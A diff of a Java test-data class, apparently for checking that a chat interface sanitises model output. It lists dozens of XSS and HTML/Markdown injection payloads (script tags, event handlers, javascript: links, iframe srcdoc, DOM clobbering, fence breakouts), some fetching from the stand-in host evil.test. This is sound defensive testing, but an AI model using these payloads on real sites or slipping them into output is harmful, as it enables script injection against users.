@@ -5,8 +5,8 @@ import java.util.List;
 import java.util.stream.Stream;
 
 /**
- * Texts that a hostile model could say, by family: each calls {@code top.hit(n)} with its own number n where its code runs,
- * or asks {@code https://evil.test/} for something.
+ * Texts that a hostile model could say, by family: each calls {@code top.hit(n)} with its own number n where its code
+ * runs, or asks {@code https://evil.test/} for something.
  */
 final class HostilePayloads {
 
@@ -51,7 +51,8 @@ final class HostilePayloads {
 
     private void scripts() {
         add("script", "<script>top.hit(#)</script>", "<SCRIPT>top.hit(#)</SCRIPT>", "<script\n>top.hit(#)</script\n>",
-                "<script/x>top.hit(#)</script>", "<scr<script>ipt>top.hit(#)</script>", "x<script>top.hit(#)//</script>y",
+                "<script/x>top.hit(#)</script>", "<scr<script>ipt>top.hit(#)</script>",
+                "x<script>top.hit(#)//</script>y",
                 "<script type=module>top.hit(#)</script>", "<script>/*</script><script>*/top.hit(#)</script>",
                 "<svg><script>top.hit(#)</script></svg>", "<math><script>top.hit(#)</script></math>",
                 "<script src=\"https://evil.test/#.js\"></script>", "<script src=data:,top.hit(#)></script>",
@@ -66,7 +67,8 @@ final class HostilePayloads {
                 "<img src=x onerror=&#116;op.hit(NUMBER)>", "<img src=x onerror=\"top['h'+'it'](NUMBER)\">",
                 "<img src onerror=CODE>", "<img src=\"\" onerror=CODE>", "<img srcset=x onerror=CODE>",
                 "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=CODE>", "<image src=x onerror=CODE>",
-                "<img src=x: onerror=CODE>", "<img alt=\"`\" src=x onerror=CODE alt=\"`\">", "<img src='x'onerror=CODE>",
+                "<img src=x: onerror=CODE>", "<img alt=\"`\" src=x onerror=CODE alt=\"`\">",
+                "<img src='x'onerror=CODE>",
                 "<p><img src=x onerror=CODE></p>", "<picture><source srcset=x><img src=x onerror=CODE></picture>",
                 "<div><b><i><img src=x onerror=CODE>", "<table><tr><td><img src=x onerror=CODE></table>",
                 "<details open><summary>s</summary><img src=x onerror=CODE></details>",
@@ -111,23 +113,29 @@ final class HostilePayloads {
                 "<iframe srcdoc=\"<script>top.hit(#)</script>\"></iframe>",
                 "<iframe srcdoc='<img src=x onerror=top.hit(#)>'></iframe>",
                 "<iframe srcdoc=\"&lt;script&gt;top.hit(#)&lt;/script&gt;\"></iframe>",
-                "<IFRAME SRC=\"jAvAsCrIpT:top.hit(#)\"></IFRAME>", "<iframe src=\"java&#9;script:top.hit(#)\"></iframe>",
-                "<iframe src=\"&#106;avascript:top.hit(#)\"></iframe>", "<iframe src=\"  javascript:top.hit(#)\"></iframe>",
-                "<frameset onload=top.hit(#)><img src=x onerror=top.hit(#)>", "<iframe src=https://evil.test/#></iframe>",
+                "<IFRAME SRC=\"jAvAsCrIpT:top.hit(#)\"></IFRAME>",
+                "<iframe src=\"java&#9;script:top.hit(#)\"></iframe>",
+                "<iframe src=\"&#106;avascript:top.hit(#)\"></iframe>",
+                "<iframe src=\"  javascript:top.hit(#)\"></iframe>",
+                "<frameset onload=top.hit(#)><img src=x onerror=top.hit(#)>",
+                "<iframe src=https://evil.test/#></iframe>",
                 "<object data=\"data:text/html,<script>top.hit(#)</script>\"></object>",
                 "<iframe src=\"about:blank\" onload=\"top.hit(#)\"></iframe>", "<iframe/onload=top.hit(#)>",
                 "<iframe src=\"javascript:void top.hit(#)\">x</iframe>", "<embed src=\"https://evil.test/#\">");
     }
 
     private void focus() {
-        add("focus and time", "<input autofocus onfocus=top.hit(#)>", "<textarea autofocus onfocus=top.hit(#)></textarea>",
+        add("focus and time", "<input autofocus onfocus=top.hit(#)>",
+                "<textarea autofocus onfocus=top.hit(#)></textarea>",
                 "<select autofocus onfocus=top.hit(#)></select>", "<button autofocus onfocus=top.hit(#)>x</button>",
                 "<div tabindex=0 autofocus onfocus=top.hit(#)>x</div>", "<details open ontoggle=top.hit(#)>x</details>",
                 "<a href=\"https://example.org\" onclick=\"top.hit(#);return false\">x</a>",
-                "<p onclick=top.hit(#) class=clickme>x</p>", "<b onclick='top.hit(#)'>x</b>", "<div onclick=top.hit(#)>x</div>",
+                "<p onclick=top.hit(#) class=clickme>x</p>", "<b onclick='top.hit(#)'>x</b>",
+                "<div onclick=top.hit(#)>x</div>",
                 "<td onclick=top.hit(#)>x</td><i onclick=top.hit(#)>y</i>", "<summary onclick=top.hit(#)>x</summary>",
                 "<kbd onclick=top.hit(#)>x</kbd>", "<details ontoggle=top.hit(#) open><summary>s</summary></details>",
-                "<x onclick=top.hit(#)>x</x>", "<video controls onclick=top.hit(#)></video>", "<u onclick=top.hit(#)>x</u>");
+                "<x onclick=top.hit(#)>x</x>", "<video controls onclick=top.hit(#)></video>",
+                "<u onclick=top.hit(#)>x</u>");
     }
 
     private void styles() {
@@ -137,7 +145,8 @@ final class HostilePayloads {
                 "<style>@import url(https://evil.test/#.css);</style>",
                 "<p style=\"position:fixed;inset:0\" onclick=top.hit(#)>x</p>",
                 "<style>.answer{display:none}</style><img src=x onerror=top.hit(#)>",
-                "<link rel=stylesheet href=https://evil.test/#.css>", "<b style=\"behavior:url(x)\" onclick=top.hit(#)>x</b>",
+                "<link rel=stylesheet href=https://evil.test/#.css>",
+                "<b style=\"behavior:url(x)\" onclick=top.hit(#)>x</b>",
                 "<style><img src=x onerror=top.hit(#)></style><img src=x onerror=top.hit(#)>",
                 "<svg><style><img src=x onerror=top.hit(#)></style></svg>");
     }
@@ -163,11 +172,15 @@ final class HostilePayloads {
     }
 
     private void markdownLinks() {
-        add("Markdown link", "[x](javascript:top.hit(#))", "[x](JaVaScRiPt:top.hit(#))", "[x](javascript:top.hit\\(#\\))",
+        add("Markdown link", "[x](javascript:top.hit(#))", "[x](JaVaScRiPt:top.hit(#))",
+                "[x](javascript:top.hit\\(#\\))",
                 "[x](<javascript:top.hit(#)>)", "[x][1]\n\n[1]: javascript:top.hit(#)", "<javascript:top.hit(#)>",
-                "[x](java&#115;cript:top.hit(#))", "[x](&#106;avascript:top.hit(#))", "[x](javascript&colon;top.hit(#))",
-                "[x](vbscript:top.hit(#))", "[x](data:text/html,<script>top.hit(#)</script>)", "![x](javascript:top.hit(#))",
-                "[![x](x)](javascript:top.hit(#))", "[x](javascript:top.hit(#) \"t\")", "[<b>x</b>](javascript:top.hit(#))",
+                "[x](java&#115;cript:top.hit(#))", "[x](&#106;avascript:top.hit(#))",
+                "[x](javascript&colon;top.hit(#))",
+                "[x](vbscript:top.hit(#))", "[x](data:text/html,<script>top.hit(#)</script>)",
+                "![x](javascript:top.hit(#))",
+                "[![x](x)](javascript:top.hit(#))", "[x](javascript:top.hit(#) \"t\")",
+                "[<b>x</b>](javascript:top.hit(#))",
                 "[x]( javascript:top.hit(#))", "* [x](javascript:top.hit(#))", "> [x](javascript:top.hit(#))",
                 "# [x](javascript:top.hit(#))".replace("# [", "## ["), "**[x](javascript:top.hit(#))**");
     }
@@ -187,19 +200,26 @@ final class HostilePayloads {
     private void brokenMarkdown() {
         add("Markdown breakout", "![x](x\"onerror=\"top.hit(#))", "![\"onerror=\"top.hit(#)](x)",
                 "[x](x \"\" onclick=top.hit(#))",
-                "![x](x '\" onerror=top.hit(#) x=\"')", "`<img src=x onerror=top.hit(#)>`<img src=x onerror=top.hit(#)>",
-                "<https://example.org/\"onclick=top.hit(#)>", "[a](https://example.org/\"><img src=x onerror=top.hit(#)>)",
-                "[<img src=x onerror=top.hit(#)>](https://example.org)", "| <img src=x onerror=top.hit(#)> |\n| - |\n| y |",
-                "| x |\n| - |\n| <img src=x onerror=top.hit(#)> |", "# <img src=x onerror=top.hit(#)>".replace("# <", "### <"),
-                "**<img src=x onerror=top.hit(#)>**", "~~<img src=x onerror=top.hit(#)>~~", "_<img src=x onerror=top.hit(#)>_",
+                "![x](x '\" onerror=top.hit(#) x=\"')",
+                "`<img src=x onerror=top.hit(#)>`<img src=x onerror=top.hit(#)>",
+                "<https://example.org/\"onclick=top.hit(#)>",
+                "[a](https://example.org/\"><img src=x onerror=top.hit(#)>)",
+                "[<img src=x onerror=top.hit(#)>](https://example.org)",
+                "| <img src=x onerror=top.hit(#)> |\n| - |\n| y |",
+                "| x |\n| - |\n| <img src=x onerror=top.hit(#)> |",
+                "# <img src=x onerror=top.hit(#)>".replace("# <", "### <"),
+                "**<img src=x onerror=top.hit(#)>**", "~~<img src=x onerror=top.hit(#)>~~",
+                "_<img src=x onerror=top.hit(#)>_",
                 "\\<img src=x onerror=top.hit(#)><img src=x onerror=top.hit(#)>", "[x]: <javascript:top.hit(#)>\n[x]",
                 "a\n<img src=x onerror=top.hit(#)>\nb", "\t\n<img src=x onerror=top.hit(#)>",
                 "www.example.org/<img src=x onerror=top.hit(#)>");
     }
 
     private void blocks() {
-        for (String around : List.of("* %s", "1. %s", "> %s", "> > %s", "- [ ] %s", "- [x] %s", "a  \n%s", "***\n%s", "%s\n===",
-                "%s\n---", "* a\n  * %s", "<div>\n\n%s\n\n</div>", "&lt;%s", "a | b\n--|--\n%s | c", "Term\n: %s", "😀%s",
+        for (String around : List.of("* %s", "1. %s", "> %s", "> > %s", "- [ ] %s", "- [x] %s", "a  \n%s", "***\n%s",
+                "%s\n===",
+                "%s\n---", "* a\n  * %s", "<div>\n\n%s\n\n</div>", "&lt;%s", "a | b\n--|--\n%s | c", "Term\n: %s",
+                "😀%s",
                 "日本%s語")) {
             add("inside a block", around.formatted("<img src=x onerror=top.hit(#)>"));
         }
@@ -222,7 +242,8 @@ final class HostilePayloads {
                 "```js\"onclick=\"top.hit(#)\nx\n```", "```<img src=x onerror=top.hit(#)>\nx\n```",
                 "~~~\n<script>top.hit(#)</script>\n~~~\n<img src=x onerror=top.hit(#)>",
                 "```\n```<img src=x onerror=top.hit(#)>",
-                "<pre><code><img src=x onerror=top.hit(#)></code></pre>", "<code class=\"hljs\" onclick=top.hit(#)>x</code>",
+                "<pre><code><img src=x onerror=top.hit(#)></code></pre>",
+                "<code class=\"hljs\" onclick=top.hit(#)>x</code>",
                 "```html\n</code></pre><img src=x onerror=top.hit(#)>\n```\n\n<b onclick=top.hit(#)>x</b>",
                 "    <img src=x onerror=top.hit(#)>\n\n<img src=x onerror=top.hit(#)>",
                 "<button class=\"copy-code\" onclick=top.hit(#)>Copy</button>");
@@ -248,14 +269,16 @@ final class HostilePayloads {
                 "<meta http-equiv=refresh content=\"0;url=https://evil.test/#\">",
                 "<table background=https://evil.test/#.png><tr><td>x</table>",
                 "<td background=https://evil.test/#.png>x</td>", "<input type=image src=https://evil.test/#.png>",
-                "<object data=https://evil.test/#></object>", "<picture><source srcset=https://evil.test/#.png><img></picture>",
+                "<object data=https://evil.test/#></object>",
+                "<picture><source srcset=https://evil.test/#.png><img></picture>",
                 "<track src=https://evil.test/#.vtt>", "[![x](https://evil.test/#.png)](https://example.org)");
     }
 
     private void clobbering() {
         add("clobbering", "<a id=prompt name=prompt href=\"javascript:top.hit(#)\">x</a>",
                 "<form id=ask><input name=submit onclick=top.hit(#)></form>",
-                "<img name=getElementById src=x onerror=top.hit(#)>", "<form name=body><img src=x onerror=top.hit(#)></form>",
+                "<img name=getElementById src=x onerror=top.hit(#)>",
+                "<form name=body><img src=x onerror=top.hit(#)></form>",
                 "<a id=battle data-err-other=x onclick=top.hit(#)>x</a>", "<img id=status src=x onerror=top.hit(#)>",
                 "<div data-outcome=A onclick=top.hit(#)>A is better</div>",
                 "<form><input name=attributes><img src=x onerror=top.hit(#)></form>");
